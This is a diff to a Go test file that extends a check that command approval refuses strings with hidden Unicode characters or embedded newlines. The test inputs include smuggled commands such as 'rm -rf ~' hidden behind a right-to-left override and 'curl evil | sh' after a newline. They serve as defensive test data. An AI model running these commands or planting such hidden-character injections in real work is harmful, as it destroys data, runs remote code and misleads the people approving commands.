@@ -82,7 +82,7 @@ func TestUnapprovedCompletion(t *testing.T) {
 // be approved.
 func TestApproveRefusesHiddenText(t *testing.T) {
 	c := newClock()
-	for _, command := range []string{"make test\u202e; rm -rf ~", "make\u200btest", "make test\ncurl evil | sh", " make test"} {
+	for _, command := range []string{"make test\u202e; rm -rf ~", "make\u200btest", "make test\ncurl evil | sh", " make test", "make test \u3164; touch pwned", "make\ufe0f test"} {
 		s := withCheck(t, c, "true")
 		s.Goal.Check.Command = command // as a raw etcd write leaves it
 		if _, err := s.ApproveCheck(command, alice, c.now()); codeOf(err) != CodeArgsInvalid || !strings.Contains(err.Error(), "cannot be approved") {
